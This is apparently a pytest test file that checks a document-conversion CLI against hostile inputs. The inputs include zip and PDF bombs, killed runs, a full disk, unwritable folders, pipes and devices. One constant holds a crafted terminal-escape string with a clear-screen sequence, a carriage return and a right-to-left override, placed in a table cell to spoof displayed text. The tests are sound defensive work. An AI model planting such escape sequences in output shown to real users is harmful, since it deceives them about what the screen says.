    assert documents(tmp_path / "out")["wide.pdf"]["status"] == "ok"
    assert peak < 350, peak


# -- slow: full-size cases (pytest -m slow; bench/robustness.py measures them) -----------------


@pytest.mark.slow
def test_zip_bombs_of_gigabytes_are_refused_or_read_without_inflating(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    hostile.zip_bomb_docx(folder / "honest.docx", 2 * 2**30)
    hostile.zip_bomb_docx(folder / "liar.docx", 2 * 2**30, lie=True)
    hostile.media_bomb_docx(folder / "picture.docx", 500 * 2**20)
    peak = peak_megabytes_of_convert(folder, tmp_path / "out")
    listed = documents(tmp_path / "out")
    assert "max_uncompressed_bytes" in listed["honest.docx"]["error"]
    assert "damaged" in listed["liar.docx"]["error"]
    assert listed["picture.docx"]["status"] == "ok"
    assert peak < 400, peak


@pytest.mark.slow
def test_a_pdf_bomb_fails_before_it_takes_a_gigabyte(tmp_path: Path) -> None:
    hostile.dense_text_pdf(tmp_path / "in" / "bomb.pdf", 400_000, compress=True)
    peak = peak_megabytes_of_convert(tmp_path / "in", tmp_path / "out")
    assert documents(tmp_path / "out")["bomb.pdf"]["status"] == "failed"
    assert peak < 500, peak


@pytest.mark.slow
def test_a_two_thousand_page_pdf_converts(tmp_path: Path) -> None:
    hostile.many_pages_pdf(tmp_path / "in" / "pages2000.pdf", 2000)
    began = time.perf_counter()
    convert([tmp_path / "in"], tmp_path / "out")
    assert time.perf_counter() - began < 300
    row = documents(tmp_path / "out")["pages2000.pdf"]
    assert row["status"] == "ok" and row["pages"] == "2000" and row["actions_found"] == "4000"


@pytest.mark.slow
def test_runs_killed_at_random_moments_leave_only_complete_files(tmp_path: Path) -> None:
    first = _flagged_plan(tmp_path / "a", "alpha.docx").parent
    second = tmp_path / "b"
    hostile.many_pages_pdf(second / "long.pdf", 100)
    _flagged_plan(second, "beta.docx")
    out = tmp_path / "out"
    rng = random.Random(5)
    for _ in range(5):
        assert convert([first], out, "--no-cache").exit_code == 0
        child = subprocess.Popen(
            [sys.executable, "-m", "planharvest", "convert", str(second), "--out", str(out),
             "--workers", "1", "--no-cache"], cwd=ROOT, stderr=subprocess.DEVNULL,
            env={**os.environ, "PYTHONPATH": str(ROOT)})
        time.sleep(rng.uniform(1.0, 5.0))
        child.kill()
        child.wait()
        assert hostile.output_problems(out) == []


# -- system errors: one line naming the path and the cause ----------------------------------


def test_a_full_disk_is_one_line_and_the_last_run_stays_whole(tmp_path: Path) -> None:
    folder, out = tmp_path / "in", tmp_path / "out"
    good_inputs(folder)
    assert run_cli(["convert", str(folder), "--out", str(out)]).returncode == 0
    before = {path: path.read_bytes() for path in files_under(out)
              if path.name in ("actions.csv", "documents.csv")}
    hostile.action_plan_docx(folder / "another.docx")
    full = run_cli(["convert", str(folder), "--out", str(out)], DISK_FULL_AT="actions.csv")
    assert full.returncode == 1
    assert "Traceback" not in full.stderr
    (line,) = [line for line in full.stderr.splitlines() if "no space left" in line]
    assert "actions.csv" in line
    assert {path: path.read_bytes() for path in before} == before


@pytest.mark.parametrize("where", ["under_a_file", "dev_null"])
def test_an_out_folder_that_cannot_be_one_is_a_usage_error(tmp_path: Path, where: str) -> None:
    good_inputs(tmp_path / "in")
    (tmp_path / "a_file").write_text("not a folder")
    out = {"under_a_file": tmp_path / "a_file" / "out", "dev_null": Path(os.devnull)}[where]
    result = convert([tmp_path / "in"], out)
    assert result.exit_code == 2
    assert "Traceback" not in result.stderr
    assert str(out) in result.stderr
    assert "not a folder" in result.stderr


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_a_read_only_out_folder_is_one_line(tmp_path: Path) -> None:
    good_inputs(tmp_path / "in")
    out = tmp_path / "out"
    out.mkdir()
    out.chmod(0o555)
    try:
        result = convert([tmp_path / "in"], out)
    finally:
        out.chmod(0o755)
    assert result.exit_code in (1, 2)
    assert "Traceback" not in result.stderr
    assert str(out) in result.stderr and "ermission denied" in result.stderr


# -- terminal escapes from a document's cells -------------------------------------------------

#: A cell that would clear the screen (C1 CSI), overwrite its line and reverse the text after.
_ESCAPING_CELL = "Gotham\x9b2J\rsaved: all decisions\u202eTrust"


def test_cells_cannot_rewrite_the_terminal_in_review_or_tables(tmp_path: Path) -> None:
    plan = hostile.action_plan_docx(tmp_path / "in" / "plan.docx", rows=[
        ("A1", f"Open the {_ESCAPING_CELL} centre", _ESCAPING_CELL, "March 2009")])
    convert([plan.parent], tmp_path / "out")
    session = CliRunner().invoke(main, ["review", str(tmp_path / "out")], input="q\n")
    listing = CliRunner().invoke(main, ["tables", str(plan), "--format", "csv"])
    for printed in (session.output, listing.output):
        assert "Gotham" in printed
        assert not {"\x9b", "\u202e"} & set(printed)
        assert "\rsaved" not in printed
    assert "Gotham\\x9b2J" in session.output and "all decisions\\u202eTrust" in session.output
    assert "Gotham\\x9b2J" in listing.output


def test_thousands_of_stale_decisions_print_a_bounded_summary(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    good_inputs(folder)
    decisions = tmp_path / "decisions.csv"
    with decisions.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["scope", "record_id", "field", "raw_value", "decision", "value",
                         "reviewer", "decided_at", "tool_version"])
        for number in range(500):
            writer.writerow(["row", f"{number:016d}", "owners", "", "set", "Police", "cy",
                             "2026-01-01", "0"])
    result = convert([folder], tmp_path / "out", "--decisions", str(decisions))
    stale_lines = [line for line in result.stderr.splitlines() if "stale decision" in line]
    assert 1 <= len(stale_lines) <= 21
    assert "480 more stale decisions" in result.stderr
    review = read_csv(tmp_path / "out" / "review.csv")
    assert sum("decision_stale" in line["flags"] for line in review) == 500


def test_the_tables_command_refuses_pipes_and_devices(tmp_path: Path) -> None:
    for special in hostile.special_files(tmp_path / "in"):
        try:  # a reader blocked on a pipe waits for ever: any bound detects it
            listed = run_cli(["tables", str(special)], timeout=HANG_SECONDS)
        except subprocess.TimeoutExpired:
            pytest.fail(f"tables hung on {special.name}")
        assert listed.returncode == 1 and "Traceback" not in listed.stderr
        assert f"{special.name}: not a regular file" in listed.stderr
